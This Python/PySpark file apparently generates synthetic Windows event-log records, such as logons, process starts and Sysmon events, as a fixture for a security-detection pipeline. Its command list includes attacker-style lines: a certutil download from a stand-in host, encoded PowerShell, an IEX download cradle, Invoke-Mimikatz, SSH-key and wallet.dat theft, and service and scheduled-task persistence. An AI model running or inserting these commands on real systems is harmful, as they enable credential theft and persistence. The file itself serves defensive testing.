"""Stand-in view: the events table read as Windows events."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from sentrylake.functions.win import features
from sentrylake.schema import WIN_COLUMNS, conform
from sentrylake.workloads.base import SPARK, Dialect, from_sql

FIELDS = ["LogonType", "IpAddress", "TargetUserName", "SubjectUserName", "SubjectDomainName", "SubjectLogonId", "TargetLogonId", "MemberName",
          "Image", "NewProcessName", "ParentImage", "CommandLine", "ScriptBlockText", "ProcessId", "NewProcessId", "ParentProcessGuid",
          "ProcessGuid", "TargetFilename", "TargetObject", "Details", "DestinationIp", "QueryName", "ServiceFileName", "TaskName"]
# base64 of UTF-16LE "whoami; Get-Date" and of UTF-8 "get-process | out-string"
WIDE = "dwBoAG8AYQBtAGkAOwAgAEcAZQB0AC0ARABhAHQAZQA="
NARROW = "Z2V0LXByb2Nlc3MgfCBvdXQtc3RyaW5n"
COMMANDS = [
    "whoami /all", "IPCONFIG /all", "net user", "systeminfo", "netstat -an", "dir C:|", "tasklist",
    "certutil.exe -urlcache -f http://x.example/a", "powershell -enc " + WIDE,
    "IEX( (New-Object Net.WebClient).DownloadString(1)) -w hidden", "Invoke-Mimikatz -x", "Compress-Archive C:|d",
    "findstr password a.txt", "type C:|Users|a|.ssh|id", "sc.exe create svc binpath= \"C:|Temp|a.exe\" start= auto",
    "schtasks /create /tr \"C:|ProgramData|x.exe\" /sc daily", "tool", "inv", "f", "powershell -NoP -en " + NARROW,
    "pwsh iex (a); FromBase64String; -nop ", "wallet.dat copy", "rar.exe a", "query user", "notepad.exe"]
IMAGES = {14: "C:|Windows|System32|sc.exe", 15: "C:|Windows|System32|schtasks.exe", 16: "E:|tool.exe", 17: "C:|Users|a|Downloads|inv.pdf.exe",
          18: "C:|Users|a|Downloads|f1.exe", 19: "C:|W|powershell.exe", 20: "C:|W|pwsh.exe", 22: "C:|Program Files|rar.exe"}
FILES = ["C:|Users|a|Downloads|f1.exe", "C:|Users|a|Downloads|doc.LNK", "C:|Users|a|AppData|Roaming|Signal|db", "C:|x|wallet.dat",
         "C:|Users|a|.ssh|id", "C:|P|Start Menu|Programs|Startup|a.lnk", "C:|Users|a|AppData|Roaming|Discord|x", "C:|tmp|a.txt"]


def case(expr: str, values, default: str = "NULL") -> str:
    items = values.items() if isinstance(values, dict) else enumerate(values)
    return f"CASE {expr} " + " ".join(f"WHEN {i} THEN '{v}'" for i, v in items) + f" ELSE {default} END"


def win(d: Dialect) -> str:
    k = d.k()
    base = f"""SELECT event_id, {d.us('ts')} AS us, user_id AS u, {k} AS k, {k} % 20 AS m,
  {d.div(k, '20')} * 5 + CASE event_type WHEN 'view' THEN 0 WHEN 'click' THEN 1 WHEN 'error' THEN 2 WHEN 'signup' THEN 3 ELSE 4 END AS v FROM {{events}}"""
    bs = "chr(92)"
    cmd = f"replace({case('v', COMMANDS)}, '|', {bs})"
    img = f"replace({case('v', IMAGES, chr(39) + 'C:|W|cmd.exe' + chr(39))}, '|', {bs})"
    inner = f"""
SELECT event_id, u, k, m, v, CASE WHEN m = 19 AND v % 4 = 3 THEN NULL ELSE us END AS ts_us, 'H' || CAST({d.div('u', '4')} AS STRING) AS computer,
  CASE WHEN m <= 5 THEN 4625 WHEN m <= 7 THEN 4624 WHEN m = 8 THEN 4720 WHEN m = 9 THEN 4732 WHEN m = 10 THEN 4724 WHEN m = 11 THEN 4688
    WHEN m = 12 THEN 1 WHEN m = 13 THEN 11 WHEN m = 14 THEN 13 WHEN m = 15 THEN 3 WHEN m = 16 THEN 22 WHEN m = 17 THEN 7045 WHEN m = 18 THEN 4104
    ELSE CASE v % 4 WHEN 0 THEN 1102 WHEN 1 THEN 104 WHEN 2 THEN 4698 ELSE -1 END END AS code,
  CASE WHEN m <= 11 THEN 'Security' WHEN m <= 16 THEN 'Microsoft-Windows-Sysmon/Operational' WHEN m = 17 THEN 'System'
    WHEN m = 18 THEN 'Microsoft-Windows-PowerShell/Operational' ELSE CASE v % 4 WHEN 1 THEN 'System' WHEN 3 THEN 'PowerShellHistory' ELSE 'security' END END AS channel,
  CASE WHEN v % 8 = 5 THEN 'Other' ELSE 'Microsoft-Windows-Eventlog' END AS provider
FROM (""" + base + ") AS b"
    return f"""
SELECT event_id, ts_us, code, channel, computer, provider,
  CASE WHEN m <= 7 THEN CASE v % 4 WHEN 0 THEN '3' WHEN 1 THEN '2' ELSE '10' END END AS LogonType,
  CASE WHEN m <= 7 THEN CASE WHEN k % 9 = 0 THEN '10.0.0.1' WHEN k % 9 = 1 THEN '-' ELSE '198.51.100.' || CAST(u % 2 AS STRING) END END AS IpAddress,
  CASE WHEN m <= 7 OR m = 10 THEN 'acct' || CAST(v % 6 AS STRING) WHEN m = 8 THEN 'Usr' || CAST(v % 7 AS STRING)
    WHEN m = 9 THEN CASE v % 3 WHEN 0 THEN 'administrators' WHEN 1 THEN 'Domain Admins' ELSE 'Users' END END AS TargetUserName,
  CASE WHEN m IN (8, 9, 10) OR m = 19 THEN 'boss' || CAST(u % 3 AS STRING) END AS SubjectUserName, CASE WHEN m = 19 AND u % 2 = 0 THEN 'CORP' END AS SubjectDomainName,
  CASE WHEN m = 8 THEN '0x' || CAST(v % 5 AS STRING) || 'AB' WHEN m = 11 THEN '0x0' END AS SubjectLogonId,
  CASE WHEN m IN (6, 7, 11) THEN '0X' || CAST(v % 5 AS STRING) || 'ab' END AS TargetLogonId,
  CASE WHEN m = 9 THEN CASE WHEN v % 2 = 0 THEN replace('CORP|usr', '|', {bs}) || CAST(u % 7 AS STRING) ELSE 'CN=usr' || CAST(u % 7 AS STRING) || ',OU=staff' END END AS MemberName,
  CASE WHEN m = 12 THEN {img} WHEN m IN (13, 14) THEN 'C:' || {bs} || 'p' || CAST(u % 2 AS STRING) || '.exe'
    WHEN m IN (15, 16) THEN replace({case('v % 5', ['C:|Temp|a.exe', 'C:|Windows|svchost.exe', 'C:|ProgramData|OneDrive.exe', 'C:|Users|a|AppData|Roaming|z.exe', 'C:|W|b.exe'])}, '|', {bs})
    WHEN m = 19 AND v % 4 = 3 THEN 'powershell.exe' END AS Image,
  CASE WHEN m = 11 THEN {img} END AS NewProcessName, CASE WHEN m IN (11, 12) AND u % 2 = 0 THEN 'C:' || {bs} || 'Windows' || {bs} || 'Explorer.EXE' END AS ParentImage,
  CASE WHEN m IN (11, 12) OR (m = 19 AND v % 4 = 3) THEN {cmd} END AS CommandLine, CASE WHEN m = 18 THEN {cmd} END AS ScriptBlockText,
  CASE WHEN m = 11 THEN '0x' || CAST(u % 3 AS STRING) || '0' WHEN m IN (12, 15, 16, 18) THEN CAST(16 * (u % 4) AS STRING) END AS ProcessId,
  CASE WHEN m = 11 THEN '0x' || CAST(u % 4 AS STRING) || '0' END AS NewProcessId,
  CASE WHEN m = 12 AND v % 2 = 0 THEN 'g' || CAST((k + u) % 23 AS STRING) END AS ParentProcessGuid, CASE WHEN m = 12 THEN 'g' || CAST((k * 3 + u + 1) % 23 AS STRING) END AS ProcessGuid,
  CASE WHEN m = 13 THEN replace({case('v % 8', FILES)}, '|', {bs}) END AS TargetFilename,
  CASE WHEN m = 14 THEN replace({case('v % 3', ['HKLM|Software|Microsoft|Windows|CurrentVersion|Run|a', 'HKLM|Software|X', 'HKCU|software|microsoft|windows|currentversion|RunOnce|b'])}, '|', {bs}) END AS TargetObject,
  CASE WHEN m = 14 THEN 'v' || CAST(v AS STRING) END AS Details, CASE WHEN m = 15 THEN '203.0.113.' || CAST(v AS STRING) END AS DestinationIp,
  CASE WHEN m = 16 THEN 'q' || CAST(v AS STRING) || '.example' END AS QueryName,
  CASE WHEN m = 17 THEN replace({case('v % 4', ['C:|Temp|A.exe', 'C:|Program Files|s.exe', '', 'D:|odd.exe'])}, '|', {bs}) END AS ServiceFileName,
  CASE WHEN m = 19 AND v % 4 = 2 THEN 'Task' || CAST(v AS STRING) END AS TaskName
FROM ({inner}) AS i"""


def raw_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The Windows event table, before its fields are read."""
    df = from_sql(spark, sf_dir, win(SPARK))
    pairs = [x for f in FIELDS for x in (F.lit(f), F.col(f))]
    df = df.withColumn("data", F.map_filter(F.create_map(*pairs), lambda k, v: v.isNotNull())).drop(*FIELDS)
    from sentrylake.functions.win import norm_channel
    df = df.withColumn("channel", norm_channel(F.col("channel"))).withColumn("case_key", F.col("computer"))
    return conform(df, WIN_COLUMNS)


def events(spark: SparkSession, sf_dir: str) -> DataFrame:
    return features(raw_events(spark, sf_dir))
